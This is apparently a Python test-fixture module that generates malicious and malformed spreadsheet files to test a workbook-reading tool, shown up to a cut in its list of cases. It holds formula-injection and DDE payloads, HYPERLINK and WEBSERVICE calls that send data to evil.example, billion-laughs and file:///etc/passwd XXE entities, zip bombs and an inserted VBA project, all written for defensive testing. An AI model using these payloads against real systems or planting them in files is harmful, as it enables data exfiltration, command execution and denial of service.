"""The hostile corpus: odd and malicious files a trainer may receive, each made by code at test
time (nothing binary is committed), with what every command must do with it.

Each `Case` builds its file into an empty folder and says whether the reader must accept it; an
unusable file names the reason and the hint a user reads. `tests/test_hostile_corpus.py` runs
every command over every case in a memory-capped subprocess.
"""

from __future__ import annotations

import datetime as dt
import importlib.util
import itertools
import re
import shutil
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape as xml_escape

import openpyxl
import soffice

from cba_xl import api
from cba_xl.core import schema
from cba_xl.core.models import Homework
from cba_xl.core.schema import Field, Kind
from cba_xl.sample import build, generate
from cba_xl.spec.cells import a1, col_letter
from cba_xl.spec.layout import LAYOUT, META, PLAN, PROFILE, RACI

# What a participant sees in the check's summary etc. is irrelevant here; what matters is what
# each command does with the file. Reasons and hints are the words of cba_xl.excel.opening and
# cba_xl.excel.reader, matched as substrings of the one line a command prints about the file.
SEND_AGAIN = "download it again, or ask the participant to send it again"
SAVE_AS_XLSX = "save it as .xlsx"
NOT_OURS = "not a Cluster Booster Academy workbook (no template marker)"
START_FRESH = "start from `cba-xl new` or the academy template"
ENTITIES_HINT = "open it in Excel, save it as a new .xlsx and send that"

# Text a participant typed: marked so that every output can be searched for it.
MARK = "INJ"
PAYLOADS = (
    '=HYPERLINK("http://evil.example/leak?d="&A1,"{mark}")',
    "+cmd|' /C calc'!A0 {mark}",
    "-2+3+cmd|' /C notepad'!'A1' {mark}",
    "@SUM(1+1)*cmd|' /C calc'!A0 {mark}",
    "=1+1 {mark}",
)
SCRIPTS = (
    "Klaster wspiera małe i średnie przedsiębiorstwa z regionu w transformacji cyfrowej. ",
    "Ο σύνδεσμος συνεργάζεται με πανεπιστήμια και ερευνητικά κέντρα της περιοχής. ",
    "Клъстерът обединява малки и средни предприятия, университети и общини. ",
    "التجمع يدعم الشركات الصغيرة والمتوسطة في التحول الرقمي. ",
    "产业集群支持中小企业进行数字化转型和国际合作。",
    "Kümelenme, bölgedeki KOBİ'lerin dijital dönüşümünü destekler. ",
    "👩‍🔬 Ǆ ﬁ Å Å e\u0301 \u200b\u200f RTL‮ ",
)
LONG = 2000  # characters in every input of the long-text case


@dataclass(frozen=True)
class Case:
    """One odd file and what every command must do with it."""

    name: str
    make: Callable[[Path], Path]  # builds the file inside the given (empty) folder
    usable: bool
    reason: str = ""  # unusable: the reason a user reads, as printed
    hint: str = ""  # unusable: what to do
    errors: bool = False  # usable: the check finds errors (exit 1) rather than none (exit 0)
    needs: str = ""  # a program or module the case cannot be made without
    open_in_excel: bool = False

    @property
    def available(self) -> bool:
        if not self.needs:
            return True
        return (
            shutil.which(self.needs) is not None or importlib.util.find_spec(self.needs) is not None
        )


# --- making workbooks --------------------------------------------------------------------------


def clean_homework() -> Homework:
    """A generated participant whose workbook checks without errors."""
    return next(generate(1, seed=3))


def clean_workbook(path: Path) -> Path:
    return api.write_homework(path, clean_homework())


def edit_cells(
    path: Path, cells: Mapping[tuple[str, str], object], *, formulas: bool = False
) -> Path:
    """Set cells with openpyxl, as a participant's Excel would save them: text stays text (even
    text starting with '='), unless `formulas` asks for '=...' to be formulas."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # openpyxl notes on extensions it does not keep
        book = openpyxl.load_workbook(path, keep_vba=path.suffix == ".xlsm", rich_text=True)
        for (sheet, ref), value in cells.items():
            cell = book[sheet][ref]
            cell.value = value
            if isinstance(value, str) and not formulas:
                cell.data_type = "s"
        book.save(path)
    return path


def change_book(path: Path, change: Callable[[openpyxl.Workbook], None]) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        book = openpyxl.load_workbook(path, rich_text=True)
        change(book)
        book.save(path)
    return path


def rezip(
    path: Path, change: Callable[[str, bytes], bytes | None], add: Mapping[str, bytes] = {}
) -> Path:
    """Rewrite the package part by part; `change` returns new bytes, or None to drop a part."""
    with zipfile.ZipFile(path) as zin:
        parts = {name: zin.read(name) for name in zin.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts.items():
            new = change(name, data)
            if new is not None:
                zout.writestr(name, new)
        for name, data in add.items():
            zout.writestr(name, data)
    return path


def sheet_part(path: Path, sheet: str) -> str:
    from cba_xl.excel.sheet_xml import sheet_parts

    with zipfile.ZipFile(path) as zf:
        return sheet_parts(zf)[sheet]


@dataclass(frozen=True)
class InputCell:
    sheet: str
    ref: str
    field: Field


CANVAS_ITEM = Field("canvas_item", "Canvas item")
RACI_PERSON = Field("raci_person", "Person")


def input_cells(rows: int = 2) -> list[InputCell]:
    """Every input cell of the layout, with `rows` rows of each table, canvas block and RACI."""
    lay = LAYOUT
    cells = [InputCell(c.sheet, c.ref, c.field) for c in (*lay.profile, lay.plan_start)]
    for table in lay.tables.values():
        for row in range(table.first_row, table.first_row + rows):
            cells += [InputCell(table.sheet, table.cell(f.key, row), f) for f in table.inputs]
    for canvas in lay.canvases.values():
        for block in canvas.blocks:
            cells += [
                InputCell(canvas.sheet, a1(row, block.col), CANVAS_ITEM)
                for row in block.item_rows[:rows]
            ]
    raci = lay.raci
    cells += [
        InputCell(raci.sheet, a1(raci.people_row, raci.person_col(i)), RACI_PERSON)
        for i in range(raci.people)
    ]
    for row in range(raci.first_row, raci.first_row + rows):
        cells.append(InputCell(raci.sheet, a1(row, raci.deliverable_col), schema.RACI_DELIVERABLE))
        cells += [
            InputCell(raci.sheet, a1(row, raci.person_col(i)), schema.RACI_ROLE)
            for i in range(raci.people)
        ]
    return cells


def marked(i: int) -> str:
    return f"{MARK}{i:04d}"


def injection_texts() -> dict[tuple[str, str], str]:
    """Every input cell: text starting with '=', '+', '-' or '@', each with its own marker."""
    return {
        (c.sheet, c.ref): PAYLOADS[i % len(PAYLOADS)].format(mark=marked(i))
        for i, c in enumerate(input_cells())
    }


def poisoned_homework() -> Homework:
    """The clean homework with every free-text entry starting like a formula (typed as text,
    e.g. after an apostrophe), numbers and choices left valid, so the text reaches every output:
    slide tables, the timeline chart's categories, the cohort's sheets and charts."""
    hw = clean_homework()
    count = itertools.count()

    def bad() -> str:
        i = next(count)
        return PAYLOADS[i % len(PAYLOADS)].format(mark=marked(i))

    def poison(record: object, fields: tuple[Field, ...]) -> None:
        for f in fields:
            if f.kind is Kind.TEXT and getattr(record, f.key, ""):
                setattr(record, f.key, bad())

    poison(hw.profile, schema.PROFILE)
    for key, records in (
        ("challenges", hw.challenges),
        ("changes", hw.changes),
        ("services", hw.services),
        ("actions", hw.actions),
        ("goals", hw.goals),
        ("plan", hw.plan),
    ):
        for record in records:
            poison(record, LAYOUT.tables[key].inputs)
    for canvas in (hw.canvas_current, hw.canvas_future):
        canvas.blocks = {key: [bad() for _ in items] for key, items in canvas.blocks.items()}
    for person in hw.raci_people:
        if person.name:
            person.name = bad()
    for row in hw.raci:
        row.deliverable = bad()
    return hw


def long_text(i: int) -> str:
    text = ""
    while len(text) < LONG:
        text += SCRIPTS[(i + len(text)) % len(SCRIPTS)]
    return text[:LONG]


# --- zip packages by hand, for the bombs -------------------------------------------------------


@dataclass
class RawMember:
    name: str
    deflated: bytes
    crc: int
    size: int  # the real inflated size
    declared: int  # what the headers claim


def _deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def member(name: str, data: bytes) -> RawMember:
    return RawMember(name, _deflate(data), zlib.crc32(data), len(data), len(data))


def repeated_member(name: str, head: bytes, chunk: bytes, times: int, tail: bytes) -> RawMember:
    """head + chunk * times + tail, deflated without ever holding the inflated text: a full flush
    resets the packer, so every chunk after one packs to the same bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    one = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    assert one == packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    body = first + one * times + packer.compress(tail) + packer.flush()
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(chunk) * times + len(tail)
    return RawMember(name, body, crc, size, size)


def write_zip(path: Path, members: list[RawMember]) -> Path:
    """A zip written field by field, so headers can declare what they like."""
    out = bytearray()
    central = bytearray()
    for m in members:
        name = m.name.encode()
        offset = len(out)
        common = (20, 0, 8, 0, 0x21, m.crc, len(m.deflated), m.declared, len(name))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *common, 0) + name + m.deflated
        central += struct.pack("<IH", 0x02014B50, 20)
        central += struct.pack("<HHHHHIIIHHHHHII", *common, 0, 0, 0, 0, 0, offset) + name
    start = len(out)
    n = len(members)
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), start, 0)
    path.write_bytes(out)
    return path


def bomb(path: Path, *, lie: bool) -> Path:
    """A real workbook whose Action plan sheet inflates to about 300 MB of cells."""
    src = clean_workbook(path.with_name("base.xlsx"))
    part = sheet_part(src, PLAN)
    members = []
    with zipfile.ZipFile(src) as zf:
        for name in zf.namelist():
            data = zf.read(name)
            if name != part:
                members.append(member(name, data))
                continue
            head, _, rest = data.partition(b"<sheetData>")
            _, _, tail = rest.partition(b"</sheetData>")
            cell = b'<c r="C9" t="inlineStr"><is><t>' + b"A" * (1 << 20) + b"</t></is></c>"
            inflating = repeated_member(
                name, head + b"<sheetData>", cell, 300, b"</sheetData>" + tail
            )
            if lie:  # the directory claims the part is as small as the original
                inflating.declared = len(data)
            members.append(inflating)
    src.unlink()
    return write_zip(path, members)


# --- the cases ---------------------------------------------------------------------------------


def _empty(folder: Path) -> Path:
    path = folder / "homework.xlsx"
    path.write_bytes(b"")
    return path


def _text_named_xlsx(folder: Path) -> Path:
    path = folder / "homework.xlsx"
    path.write_text("Cluster;Members;Budget\nSilesia Food;42;250.000 €\n", encoding="utf-8")
    return path


def _truncated(folder: Path) -> Path:
    path = clean_workbook(folder / "homework.xlsx")
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 2 // 3])
    return path


def _zip_not_ooxml(folder: Path) -> Path:
    path = folder / "homework.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("notes.txt", "the homework is in the other attachment")
        zf.writestr("photos/team.jpg", b"\xff\xd8\xff\xe0not really a jpeg")
    return path


def _foreign_workbook(folder: Path) -> Path:
    path = folder / "homework.xlsx"
    book = openpyxl.Workbook()
    ws = book.active
    assert ws is not None
    ws.title = "Profile"
    ws.append(["Cluster name", "Silesia Food Cluster"])
    ws.append(["Members", 42])
    book.save(path)
    return path


def _foreign_xlsm(folder: Path) -> Path:
    spec = importlib.util.find_spec("xlwings")
    assert spec is not None and spec.origin is not None
    path = folder / "quickstart.xlsm"
    shutil.copyfile(Path(spec.origin).parent / "quickstart.xlsm", path)
    return path


def _with_version(version: object) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = clean_workbook(folder / "homework.xlsx")
        return edit_cells(path, {(META, LAYOUT.meta_version_cell): version})

    return make


def _missing_sheet(folder: Path) -> Path:
    path = clean_workbook(folder / "homework.xlsx")
    return change_book(path, lambda book: book.remove(book[RACI]))


def _renamed(names: Mapping[str, str]) -> Callable[[Path], Path]:
    """Sheets renamed as Excel renames them: the sheet and the defined names pointing at it."""

    def quoted(name: str) -> bytes:
        return f"'{name}'!".encode()

    def make(folder: Path) -> Path:
        path = clean_workbook(folder / "homework.xlsx")

        def change(part: str, data: bytes) -> bytes:
            if part != "xl/workbook.xml":
                return data
            for old, new in names.items():
                data = data.replace(f'name="{old}"'.encode(), f'name="{new}"'.encode())
                data = data.replace(quoted(old), quoted(new)).replace(
                    f">{old}!".encode(), b">" + quoted(new)
                )
            return data

        return rezip(path, change)

    return make


def _bomb(lie: bool) -> Callable[[Path], Path]:
    return lambda folder: bomb(folder / "homework.xlsx", lie=lie)


BILLION_LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>"
)
EXTERNAL_ENTITY = b'<!DOCTYPE x [<!ENTITY leak SYSTEM "file:///etc/passwd">]>'


def with_doctype(data: bytes, doctype: bytes, entity: bytes) -> bytes:
    """The part with a DOCTYPE after its XML declaration and the entity used in its first text."""
    decl, sep, rest = data.partition(b"?>")
    if not sep:
        decl, rest = b"", data
    else:
        decl += sep
    rest = rest.replace(b"<t>", b"<t>" + entity, 1).replace(b"<v>", b"<v>" + entity, 1)
    return decl + doctype + rest


def _entities(
    part_of: Callable[[Path], str], doctype: bytes, entity: bytes
) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = clean_workbook(folder / "homework.xlsx")
        part = part_of(path)
        return rezip(path, lambda n, d: with_doctype(d, doctype, entity) if n == part else d)

    return make


def _encrypted(folder: Path) -> Path:
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = clean_workbook(folder / "plain.xlsx")
    path = folder / "homework.xlsx"
    with plain.open("rb") as src, path.open("wb") as dst:
        OOXMLFile(src).encrypt("Cluster2025!", dst)
    plain.unlink()
    return path


def _legacy_xls(folder: Path) -> Path:
    work = folder.parent / f".{folder.name}-soffice"
    src = clean_workbook(work / "homework.xlsx")
    soffice.convert(src, "xls", folder, work / "profile")
    shutil.rmtree(work)
    return folder / "homework.xls"


ODS_CONTENT = b"""<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">
<office:body><office:spreadsheet><table:table table:name="Profile"><table:table-row>
<table:table-cell office:value-type="string"><text:p>Cluster name</text:p></table:table-cell>
<table:table-cell office:value-type="string"><text:p>Silesia Food</text:p></table:table-cell>
</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"""
ODS_MANIFEST = b"""<?xml version="1.0" encoding="UTF-8"?>
<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
 manifest:version="1.2">
<manifest:file-entry manifest:full-path="/"
 manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>
<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>
</manifest:manifest>"""


def _ods(folder: Path) -> Path:
    """An OpenDocument spreadsheet as LibreOffice lays it out: the mimetype first, stored."""
    path = folder / "homework.ods"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", ODS_CONTENT, zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", ODS_MANIFEST, zipfile.ZIP_DEFLATED)
    return path


def _csv(folder: Path) -> Path:
    path = folder / "homework.csv"
    path.write_text(
        "Cluster name;Members;Budget (EUR)\nSilesia Food Cluster;42;250.000\n", encoding="utf-8"
    )
    return path


def vba_project() -> bytes:
    """A real VBA project (xlwings' quickstart macros), never run by anything here."""
    spec = importlib.util.find_spec("xlwings")
    assert spec is not None and spec.origin is not None
    with zipfile.ZipFile(Path(spec.origin).parent / "quickstart.xlsm") as zf:
        return zf.read("xl/vbaProject.bin")


def _xlsm_with_macros(folder: Path) -> Path:
    path = clean_workbook(folder / "homework.xlsm")
    macro_type = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"

    def change(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = data.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                macro_type,
            ).replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                b"</Types>",
            )
        elif name == "xl/_rels/workbook.xml.rels":
            data = data.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
            )
        return data

    return rezip(path, change, add={"xl/vbaProject.bin": vba_project()})


def european_texts() -> dict[tuple[str, str], str]:
    """Numbers and dates of the clean homework typed as text the way European Excel users do."""
    hw = clean_homework()
    p = LAYOUT.profile_cell
    plan = LAYOUT.tables["plan"]
    goals = LAYOUT.tables["goals"]
    cells = {
        (PROFILE, p("members").ref): f"{hw.profile.members}",
        (PROFILE, p("founding_year").ref): f" {hw.profile.founding_year} ",
        (PROFILE, p("staff_fte").ref): f"{hw.profile.staff_fte}".replace(".", ","),
        (PROFILE, p("budget_eur").ref): f"{hw.profile.budget_eur:,.0f} €".replace(",", "."),
        (PROFILE, p("share_public").ref): f"{hw.profile.share_public}".replace(".", ",") + " %",
        (PLAN, LAYOUT.plan_start.ref): _dmy(hw.plan_start, "."),
    }
    date_styles = (".", "/", "-", "iso")
    for i, step in enumerate(hw.plan):
        if step.deadline is not None:
            cells[(PLAN, plan.cell("deadline", step.row))] = _dmy(step.deadline, date_styles[i % 4])
        if step.duration is not None:
            cells[(PLAN, plan.cell("duration", step.row))] = f" {step.duration} "
    for goal in hw.goals:
        if goal.target is not None:
            text = f"{goal.target:,.2f}".replace(",", " ").replace(".", ",")
            cells[(goals.sheet, goals.cell("target", goal.row))] = text
    return cells


def _dmy(day: dt.date | None, style: str) -> str:
    assert day is not None
    if style == "iso":
        return day.isoformat()
    return f"{day.day:02d}{style}{day.month:02d}{style}{day.year}"


def _european(folder: Path) -> Path:
    return edit_cells(clean_workbook(folder / "homework.xlsx"), european_texts())


class Failed(str):
    """A formula's cached error value, such as #VALUE!."""


def cache_results(path: Path, sheet: str, results: Mapping[str, object]) -> Path:
    """Give formulas written by openpyxl the cached results Excel would have saved with them."""
    part = sheet_part(path, sheet)

    def change(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        for ref, value in results.items():
            if isinstance(value, Failed):
                kind, text = ' t="e"', str(value)
            elif isinstance(value, str):
                kind, text = ' t="str"', xml_escape(value)
            else:
                kind, text = "", repr(value)
            pattern = rf'(<c r="{ref}"[^>]*?)(>\s*<f>.*?</f>)\s*<v\s*/?>(</v>)?'.encode()
            data, n = re.subn(
                pattern, rb"\1" + kind.encode() + rb"\2<v>" + text.encode() + b"</v>", data
            )
            assert n == 1, (ref, n)
        return data

    return rezip(path, change)


def formulas_typed_in() -> dict[str, tuple[str, object]]:
    """Profile field -> a formula typed where a value belongs and the result Excel cached."""
    hw = clean_homework()
    return {
        "cluster_name": ('="Silesia "&"Food Cluster"', "Silesia Food Cluster"),
        "members": ("=40+2", 42),
        "budget_eur": ("=SUM(100000,150000)", 250000),
        "region": ("='[evil.xlsx]Sheet1'!A1", "Lower Silesia"),
        "manager_name": ('=WEBSERVICE("http://evil.example/leak")', Failed("#VALUE!")),
        "ecosystem": (
            f'=HYPERLINK("http://evil.example/","{hw.profile.ecosystem}")',
            hw.profile.ecosystem,
        ),
    }


def _formulas(folder: Path) -> Path:
    path = clean_workbook(folder / "homework.xlsx")
    typed = {LAYOUT.profile_cell(key).ref: pair for key, pair in formulas_typed_in().items()}
    path = edit_cells(path, {(PROFILE, ref): f for ref, (f, _) in typed.items()}, formulas=True)
    return cache_results(path, PROFILE, {ref: result for ref, (_, result) in typed.items()})


def _long_texts(folder: Path) -> Path:
    path = clean_workbook(folder / "homework.xlsx")
    return edit_cells(path, {(c.sheet, c.ref): long_text(i) for i, c in enumerate(input_cells())})


def _injection(folder: Path) -> Path:
    return edit_cells(clean_workbook(folder / "homework.xlsx"), injection_texts())


def _injection_in_free_text(folder: Path) -> Path:
    return api.write_homework(folder / "homework.xlsx", poisoned_homework())


def thousand_steps(n: int = 1000) -> Homework:
    hw = clean_homework()
    base = hw.plan[0]
    hw.plan = [
        build.plan_step(
            i,
            f"Step {i + 1}: {base.action}",
            base.responsible,
            base.stakeholders,
            base.requirements,
            base.outcome,
            deadline=None,
            duration=5,
            milestone=False,
            after=[i] if i else [],
        )
        for i in range(n)
    ]
    return hw


def _thousand_rows(folder: Path) -> Path:
    return api.write_homework(folder / "homework.xlsx", thousand_steps())


def _empty_template(folder: Path) -> Path:
    return api.new_workbook(folder / "homework.xlsx")


def _open_in_excel(folder: Path) -> Path:
    path = clean_workbook(folder / "homework.xlsx")
    # Excel's owner file: the user name in a fixed-size record; its content is irrelevant here.
    (folder / "~$homework.xlsx").write_bytes(b"\x0cAnna Nowak".ljust(165, b"\x20"))
    return path


EXTERNAL_LINK = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>
<sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>cached</v></cell></row>
</sheetData></sheetDataSet></externalBook></externalLink>"""


def external_links(url: str, local: Path) -> Callable[[Path], Path]:
    """A clean workbook linked to a web address and to a local file (both must stay untouched),
    with a formula reading from the linked book in an input cell."""

    def make(folder: Path) -> Path:
        path = clean_workbook(folder / "homework.xlsx")
        region = LAYOUT.profile_cell("region").ref
        path = edit_cells(path, {(PROFILE, region): "=[1]Sheet1!$A$1"}, formulas=True)
        path = cache_results(path, PROFILE, {region: "Lower Silesia"})
        ct = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
        rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

        def change(name: str, data: bytes) -> bytes:
            if name == "[Content_Types].xml":
                overrides = "".join(
                    f'<Override PartName="/xl/externalLinks/externalLink{i}.xml" '
                    f'ContentType="{ct}"/>'
                    for i in (1, 2)
                )
                return data.replace(b"</Types>", overrides.encode() + b"</Types>")
            if name == "xl/_rels/workbook.xml.rels":
                links = "".join(
                    f'<Relationship Id="rIdLink{i}" Type="{rel}/externalLink" '
                    f'Target="externalLinks/externalLink{i}.xml"/>'
                    for i in (1, 2)
                )
                return data.replace(b"</Relationships>", links.encode() + b"</Relationships>")
            if name == "xl/workbook.xml":
                refs = "<externalReferences>" + "".join(
                    f'<externalReference xmlns:r="{rel}" r:id="rIdLink{i}"/>' for i in (1, 2)
                )
                refs += "</externalReferences>"
                if b"<definedNames" in data:
                    return data.replace(b"<definedNames", refs.encode() + b"<definedNames", 1)
                return data.replace(b"<calcPr", refs.encode() + b"<calcPr", 1)
            return data

        targets = {1: url, 2: local.as_uri()}
        add = {}
        for i, target in targets.items():
            add[f"xl/externalLinks/externalLink{i}.xml"] = EXTERNAL_LINK.encode()
            add[f"xl/externalLinks/_rels/externalLink{i}.xml.rels"] = (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rId1" Type="{rel}/externalLinkPath" Target="{target}" '
                'TargetMode="External"/></Relationships>'
            ).encode()
        return rezip(path, change, add=add)

    return make


CONTROL = "".join(chr(c) for c in (*range(1, 9), 11, 12, *range(14, 32), 0xFFFE))


def _control_characters(folder: Path) -> Path:
    """Control characters in every free text (Excel keeps them, escaped as _x0008_)."""
    hw = clean_homework()
    hw.profile.cluster_name = f"Silesia{CONTROL}Food Cluster"
    for step in hw.plan:
        step.action = f"{CONTROL[step.step % len(CONTROL)]}{step.action}\x08"
    for canvas in (hw.canvas_current, hw.canvas_future):
        canvas.blocks = {k: [f"{item}{CONTROL}" for item in v] for k, v in canvas.blocks.items()}
    return api.write_homework(folder / "homework.xlsx", hw)


def _too_many_rows(folder: Path) -> Path:
    hw = thousand_steps(2001)
    return api.write_homework(folder / "homework.xlsx", hw)


def _pasted_data(folder: Path) -> Path:
    """A quarter of a million numbers pasted below the Lists sheet's lists."""
    path = clean_workbook(folder / "homework.xlsx")
    part = sheet_part(path, "Lists")
    columns = [col_letter(26 + i) for i in range(10)]  # AA to AJ, beside the lists
    rows = b"".join(
        f'<row r="{r}">'.encode()
        + b"".join(f'<c r="{col}{r}"><v>{r}</v></c>'.encode() for col in columns)
        for r in range(1000, 26000)
    )
    return rezip(
        path, lambda n, d: d.replace(b"</sheetData>", rows + b"</sheetData>") if n == part else d
    )


def _far_value(folder: Path) -> Path:
    path = clean_workbook(folder / "homework.xlsx")
    return edit_cells(path, {(PLAN, "XFD1048576"): "oops"})


def _input_sheet_part(sheet: str) -> Callable[[Path], str]:
    return lambda path: sheet_part(path, sheet)


# --- valid but unusual packages: said what they are, never "corrupt" ------------------------

MACRO_SHEET = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
    b'<sheetData><row r="1"><c r="A1"><f>RETURN()</f></c></row></sheetData></xm:macrosheet>'
)


def _macro_sheet(folder: Path) -> Path:
    """A workbook with an Excel 4 macro sheet (valid, as Excel still saves them)."""

    def change(name: str, data: bytes) -> bytes:
        if name == "xl/workbook.xml":
            return data.replace(
                b"</sheets>", b'<sheet name="Macro1" sheetId="99" r:id="rId99"/></sheets>'
            )
        if name == "xl/_rels/workbook.xml.rels":
            return data.replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/'
                b'relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>',
            )
        if name == "[Content_Types].xml":
            return data.replace(
                b"</Types>",
                b'<Override PartName="/xl/macrosheets/sheet1.xml" '
                b'ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
            )
        return data

    return rezip(
        clean_workbook(folder / "homework.xlsx"), change, {"xl/macrosheets/sheet1.xml": MACRO_SHEET}
    )


def _sheet_state_show(folder: Path) -> Path:
    """state="show", which some writers put where the standard has "visible"."""

    def change(name: str, data: bytes) -> bytes:
        if name == "xl/workbook.xml":
            return data.replace(b'state="hidden"', b'state="show"', 1)
        return data

    return rezip(clean_workbook(folder / "homework.xlsx"), change)


def _backslash_part_names(folder: Path) -> Path:
    """Part names spelled with backslashes, as some Windows zip tools write them."""
    path = clean_workbook(folder / "homework.xlsx")
    with zipfile.ZipFile(path) as zin:
        parts = [(i.filename, zin.read(i)) for i in zin.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts:
            if name.startswith("xl/worksheets/"):
                name = name.replace("/", "\\")
            zout.writestr(name, data)
    return path


def _workbook_outside_xl(folder: Path) -> Path:
    """Every part under spreadsheet/ instead of xl/, found through the package relationships:
    valid OOXML, which neither Excel's own files nor the readers cba-xl uses have."""
    path = clean_workbook(folder / "homework.xlsx")

    def change(name: str, data: bytes) -> bytes:
        data = data.replace(b"/xl/", b"/spreadsheet/").replace(b'"xl/', b'"spreadsheet/')
        return data

    with zipfile.ZipFile(path) as zin:
        parts = [(i.filename, zin.read(i)) for i in zin.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for name, data in parts:
            new = "spreadsheet/" + name[3:] if name.startswith("xl/") else name
            zout.writestr(new, change(name, data))
    return path


def cases(*, url: str = "http://127.0.0.1:9/", local: Path = Path("/nonexistent")) -> list[Case]:
    """Every case; `url` and `local` are what the external-links case links to."""
    fresh = "copy your entries into a fresh workbook from `cba-xl new`"
    return [
        Case("empty_file", _empty, False, "empty file (0 bytes)", SEND_AGAIN),
        Case(
            "text_named_xlsx",
            _text_named_xlsx,
            False,
            "not an Excel workbook (it is a text or CSV file)",
            SAVE_AS_XLSX,
        ),
        Case("truncated_zip", _truncated, False, "corrupt or incomplete file", SEND_AGAIN),
        Case(
            "zip_not_ooxml",
            _zip_not_ooxml,
            False,
            "a zip archive, not an Excel workbook",
            SAVE_AS_XLSX,
        ),
        Case("foreign_workbook", _foreign_workbook, False, NOT_OURS, START_FRESH),
        Case("foreign_xlsm", _foreign_xlsm, False, NOT_OURS, START_FRESH),
        Case(
            "newer_template_version",
            _with_version("99.0"),
            False,
            "made with a newer template version 99.0",
            "update cba-xl",
        ),
        Case(
            "older_template_version",
            _with_version("0.9"),
            False,
            "made with template version 0.9, which this cba-xl cannot read",
            fresh,
        ),
        Case(
            "damaged_template_marker",
            _with_version("v1,0 (copy)"),
            False,
            "template marker damaged (version 'v1,0 (copy)')",
            START_FRESH,
        ),
        Case(
            "missing_sheet",
            _missing_sheet,
            False,
            f"sheet '{RACI}' is missing (renamed or deleted?)",
            f"name the sheet '{RACI}' again",
        ),
        Case(
            "renamed_sheets",
            _renamed({PROFILE: "Profil", PLAN: "Plan d'action"}),
            False,
            # every missing sheet in one run, not one per run
            f"sheets '{PROFILE}' and '{PLAN}' are missing (renamed or deleted?)",
            f"name the sheets '{PROFILE}' and '{PLAN}' again",
        ),
        Case(
            "renamed_sheets_case_and_spaces",
            _renamed({PROFILE: "PROFILE", PLAN: "Action  Plan"}),
            True,
        ),
        Case(
            "zip_bomb",
            _bomb(lie=False),
            False,
            "declares far more data than a workbook holds",
            SEND_AGAIN,
        ),
        Case(
            "zip_bomb_lying_sizes", _bomb(lie=True), False, "corrupt or incomplete file", SEND_AGAIN
        ),
        Case(
            "entities_in_sheet",
            _entities(_input_sheet_part(PROFILE), BILLION_LAUGHS, b"&lol9;"),
            False,
            "contains XML entity declarations (xl/worksheets/",
            ENTITIES_HINT,
        ),
        Case(
            "entities_in_shared_strings",
            _entities(lambda path: "xl/sharedStrings.xml", BILLION_LAUGHS, b"&lol9;"),
            False,
            "contains XML entity declarations (xl/sharedStrings.xml)",
            ENTITIES_HINT,
        ),
        Case(
